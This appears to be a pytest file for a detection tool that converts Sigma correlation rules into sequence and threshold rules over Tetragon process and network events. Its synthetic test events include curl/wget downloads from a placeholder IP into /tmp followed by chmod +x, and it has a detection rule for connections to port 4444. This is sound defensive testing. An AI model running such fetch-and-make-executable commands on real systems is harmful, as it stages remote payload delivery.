"""Sigma correlation rules (issue 18 item 2): temporal_ordered -> sequence, event_count/value_count -> threshold.

The Sigma rules are written for the suite (tests/sigma-correlation/); the events are Tetragon JSON lines in
the shapes Tetragon exports, run through the real engine (``tetrapipe ingest`` into a lake, or the rule-test
runner), never a shortcut into the schema.
"""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import yaml
from conftest import REPO

from tetrapipe.ruleset import load_ruleset
from tetrapipe.ruleset.sigma.convert import import_sigma
from tetrapipe.ruleset.sigma.events import tetragon_event
from tetrapipe.ruleset.sigma.write import write_rules
from tetrapipe.ruleset.testing import run_tests

SIGMA = REPO / "tests" / "sigma-correlation"
T0 = datetime(2026, 3, 10, 12, 0, 0, tzinfo=UTC)  # on a minute boundary: threshold windows align here
CLI = [sys.executable, "-m", "tetrapipe"]


def _iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def _in_container(line: str, at: datetime, container: str, pod: str = "web-0") -> str:
    """A generated Tetragon event moved to time ``at`` and into a container of pod ``shop/<pod>``."""
    doc: dict[str, Any] = json.loads(line)
    body = doc.get("process_exec") or doc["process_kprobe"]
    body["process"]["start_time"] = _iso(at)
    body["process"]["pod"] = {
        "namespace": "shop",
        "name": pod,
        "workload": "web",
        "container": {
            "id": f"containerd://{container * 8}",
            "name": "web",
            "image": {"id": "docker.io/library/nginx@sha256:ab", "name": "docker.io/library/nginx:1.27"},
            "start_time": "2026-03-10T09:00:00Z",
        },
    }
    doc["time"] = _iso(at)
    return json.dumps(doc)


def _exec(n: int, binary: str, args: str, at: datetime, container: str) -> str:
    line = tetragon_event("process_creation", {"process_binary": binary, "arguments": args}, n)
    return _in_container(line, at, container)


def _connect(n: int, dport: int, at: datetime, container: str = "c1", pod: str = "web-0") -> str:
    line = tetragon_event("network_connection", {"daddr": "198.51.100.7", "dport": dport}, n)
    return _in_container(line, at, container, pod)


def _converted(name: str) -> dict[str, dict[str, Any]]:
    report = import_sigma([SIGMA / name], firing_tests=False)
    return {c.document["title"]: c.document for c in report.converted}


def test_temporal_ordered_of_two_rules_converts_and_fires_through_ingest(tmp_path: Path) -> None:
    """The bar: a temporal_ordered correlation of two base rules becomes one sequence rule; ``tetrapipe
    ingest`` alerts on the container where curl is followed by chmod +x /tmp/... within 2 minutes, once, and
    stays quiet on the wrong order, on a chmod 3 minutes late and on the two steps in different containers."""
    out = tmp_path / "rules"
    run = subprocess.run(
        [*CLI, "rules", "import-sigma", str(SIGMA / "download-then-chmod.yml"), "--out", str(out)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert "1 converted, 0 refused" in run.stdout, run.stdout  # the base rules are inside it, not on their own
    (rule_file,) = out.glob("*.yaml")
    doc = yaml.safe_load(rule_file.read_text())
    assert doc["id"] == "sigma-download-then-made-executable-in-one-container-7c9e3a01"
    assert doc["sequence"]["by"] == "container" and doc["sequence"]["within"] == "2m"
    assert [s["name"] for s in doc["sequence"]["steps"]] == ["download_tool", "chmod_tmp"]
    assert doc["sigma"]["id"] == "7c9e3a01-5f69-4d2c-9037-91e24f1d6c83" and doc["mitre"] == ["T1105"]

    s = timedelta(seconds=1)
    lines = [
        _exec(1, "/usr/bin/curl", "-o /tmp/x http://198.51.100.7/x", T0, "a"),  # a: in order, 30 s apart
        _exec(2, "/bin/chmod", "chmod +x /tmp/x", T0 + 30 * s, "a"),
        _exec(3, "/bin/chmod", "+x /tmp/y", T0, "b"),  # b: the wrong order
        _exec(4, "/usr/bin/wget", "http://198.51.100.7/y", T0 + 30 * s, "b"),
        _exec(5, "/usr/bin/wget", "http://198.51.100.7/z", T0, "c"),  # c: too late (3 min > 2m)
        _exec(6, "/bin/chmod", "+x /tmp/z", T0 + 180 * s, "c"),
        _exec(7, "/usr/bin/curl", "-O http://198.51.100.7/w", T0, "d"),  # d then e: different containers
        _exec(8, "/bin/chmod", "+x /dev/shm/w", T0 + 10 * s, "e"),
    ]
    events = tmp_path / "events.log"
    events.write_text("\n".join(lines) + "\n")
    lake = tmp_path / "lake"
    subprocess.run(
        [*CLI, "ingest", str(events), "--rules", str(out), "--lake", str(lake), "-q"],
        check=True,
        capture_output=True,
        timeout=120,
    )
    from tetrapipe.lake import connect

    con = connect(str(lake))
    fired = con.sql(
        "SELECT a.rule_id, list(e.source_offset ORDER BY e.source_offset) FROM alerts a, unnest(a.event_ids) u(id) "
        "JOIN events e ON e.event_id = u.id GROUP BY a.alert_id, a.rule_id"
    ).fetchall()
    con.close()
    assert fired == [(doc["id"], [1, 2])]


def test_value_count_and_event_count_become_threshold_rules_with_their_semantics(tmp_path: Path) -> None:
    """value_count -> threshold distinct, event_count gt 9 -> count 10; both fire at the count and not below."""
    docs = _converted("counts.yml")
    ports = docs["Many Destination Ports From One Container"]
    burst = docs["Burst Of Connections From One Pod"]
    assert ports["threshold"] == {"count": 5, "distinct": "dport", "by": ["container_id"], "window": "1m"}
    assert burst["threshold"] == {"count": 10, "by": ["namespace", "pod"], "window": "30s"}
    assert set(docs) == {ports["title"], burst["title"]}  # the base rule is not a rule of its own
    s = timedelta(seconds=1)
    five_ports = [_connect(i, 8000 + i, T0 + i * s) for i in range(5)]
    four_ports_many_times = [_connect(i, 8000 + i % 4, T0 + i * s) for i in range(12)]
    ten = [_connect(i, 443, T0 + i * s, pod="web-1") for i in range(10)]
    nine = [_connect(i, 443, T0 + i * s, pod="web-1") for i in range(9)]
    ports["tests"] = [
        {"name": "five ports", "events": "\n".join(five_ports) + "\n", "expect": {"count": 1}},
        {"name": "four ports, often", "events": "\n".join(four_ports_many_times) + "\n", "expect": {"count": 0}},
    ]
    burst["tests"] = [
        {"name": "ten connects", "events": "\n".join(ten) + "\n", "expect": {"count": 1}},
        {"name": "nine connects", "events": "\n".join(nine) + "\n", "expect": {"count": 0}},
    ]
    report = import_sigma([SIGMA / "counts.yml"], firing_tests=False)
    for conv in report.converted:
        conv.document["tests"] = docs[conv.document["title"]]["tests"]
    write_rules(report.converted, tmp_path / "rules")
    result = run_tests(load_ruleset([tmp_path / "rules"]))
    assert result.ok and result.count("passed") == 4, [(r.rule_id, r.name, r.reason) for r in result.results]


def test_tumbling_windows_miss_a_burst_that_straddles_a_window_edge(tmp_path: Path) -> None:
    """The documented gap: Sigma's timespan slides, a tetrapipe threshold window is tumbling. Five distinct
    ports within 20 seconds fire when they fall in one minute, and not when the minute changes among them
    (Sigma would alert on both); never the other way round: a tumbling window is never wider than the span."""
    s = timedelta(seconds=1)
    inside = [_connect(i, 9000 + i, T0 + (10 + 4 * i) * s) for i in range(5)]
    across = [_connect(i, 9000 + i, T0 + (50 + 4 * i) * s) for i in range(5)]  # 12:00:50 .. 12:01:06
    report = import_sigma([SIGMA / "counts.yml"], firing_tests=False)
    (ports,) = [c for c in report.converted if c.document["title"] == "Many Destination Ports From One Container"]
    ports.document["tests"] = [
        {"name": "within one minute window", "events": "\n".join(inside) + "\n", "expect": {"count": 1}},
        {"name": "across the edge", "events": "\n".join(across) + "\n", "expect": {"count": 0}},
    ]
    write_rules([ports], tmp_path / "rules")
    result = run_tests(load_ruleset([tmp_path / "rules"]))
    assert result.ok and result.count("passed") == 2, [(r.name, r.reason) for r in result.results]


def test_what_does_not_keep_its_meaning_is_refused_with_the_reason(tmp_path: Path) -> None:
    """temporal (unordered), a condition other than "at least N", a group-by no sequence key stands for:
    refused, naming the correlation; the base rules are not converted on their own either (generate: false)."""
    report = import_sigma([SIGMA / "refused.yml"], firing_tests=False)
    assert report.converted == []
    reasons = sorted(r for _, r in report.refused)
    assert reasons == [
        "Few Shells: correlation condition lt 2: tetrapipe alerts when a count is reached (gte, gt), not on a "
        "count staying low or in a range",
        "Shell And Id In Any Order: correlation rule (temporal): the base rules in any order: tetrapipe's "
        "sequence rules are ordered, and one rule per order would alert twice on one set of events",
        "Shell Then Id By Parent Pid: temporal_ordered group-by ParentProcessId: tetrapipe's sequence rules join "
        "their steps by container (container_id), pod (namespace, pod) or workload (namespace, workload)",
    ]
    run = subprocess.run(
        [*CLI, "rules", "import-sigma", str(SIGMA / "refused.yml"), "--out", str(tmp_path / "out")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 1 and "0 converted, 3 refused" in run.stdout, run.stdout + run.stderr


def test_generate_true_keeps_the_base_rules_as_rules_too(tmp_path: Path) -> None:
    """``generate: true``: the base rules alert on their own as well as inside the correlation."""
    text = (
        (SIGMA / "download-then-chmod.yml")
        .read_text()
        .replace("  timespan: 2m\n", "  timespan: 2m\n  generate: true\n")
    )
    (tmp_path / "c.yml").write_text(text)
    report = import_sigma([tmp_path], firing_tests=False)
    assert report.refused == []
    assert sorted(c.document["title"] for c in report.converted) == [
        "Download Then Made Executable In One Container",
        "Download Tool In A Container",
        "Made Executable Below A Temp Directory",
    ]
    write_rules(report.converted, tmp_path / "rules")
    assert not load_ruleset([tmp_path / "rules"]).errors


def test_event_count_over_rules_of_two_log_sources_counts_each_on_its_own_events(tmp_path: Path) -> None:
    """An event_count over an exec rule and a connect rule: each base condition applies to its own event
    kinds only, so a connect made by /usr/bin/id is not counted as an exec of id."""
    exec_rule = {"title": "id", "name": "id_exec", "id": "0a1b2c3d-0000-4000-8000-000000000001",
                 "logsource": {"product": "linux", "category": "process_creation"},
                 "detection": {"s": {"Image|endswith": "/id"}, "condition": "s"}}  # fmt: skip
    connect_rule = {"title": "4444", "name": "c4444", "id": "0a1b2c3d-0000-4000-8000-000000000002",
                    "logsource": {"product": "linux", "category": "network_connection"},
                    "detection": {"s": {"DestinationPort": 4444}, "condition": "s"}}  # fmt: skip
    correlation = {"title": "id and a 4444 connect", "id": "0a1b2c3d-0000-4000-8000-000000000003",
                   "correlation": {"type": "event_count", "rules": ["id_exec", "c4444"], "group-by": ["container_id"],
                                   "timespan": "1m", "condition": {"gte": 2}}}  # fmt: skip
    (tmp_path / "c.yml").write_text(yaml.safe_dump_all([exec_rule, connect_rule, correlation]))
    report = import_sigma([tmp_path], firing_tests=False)
    (conv,) = report.converted
    assert conv.document["event"] == ["process_exec", "process_kprobe", "process_connect"]
    assert conv.document["requires"] == {"policies": ["connect"]}
    s = timedelta(seconds=1)

    def connect_by_id(n: int, dport: int) -> str:
        line = tetragon_event("network_connection", {"process_binary": "/usr/bin/id", "dport": dport}, n)
        return _in_container(line, T0 + n * s, "a")

    fires = [_exec(1, "/usr/bin/id", "", T0 + s, "a"), connect_by_id(2, 4444)]
    quiet = [_exec(1, "/usr/bin/id", "", T0 + s, "a"), connect_by_id(2, 443)]  # only the exec counts
    conv.document["tests"] = [
        {"name": "an id exec and a 4444 connect", "events": "\n".join(fires) + "\n", "expect": {"count": 1}},
        {"name": "an id exec and a connect by id to 443", "events": "\n".join(quiet) + "\n", "expect": {"count": 0}},
    ]
    write_rules([conv], tmp_path / "rules")
    result = run_tests(load_ruleset([tmp_path / "rules"]))
    assert result.ok and result.count("passed") == 2, [(r.name, r.reason) for r in result.results]
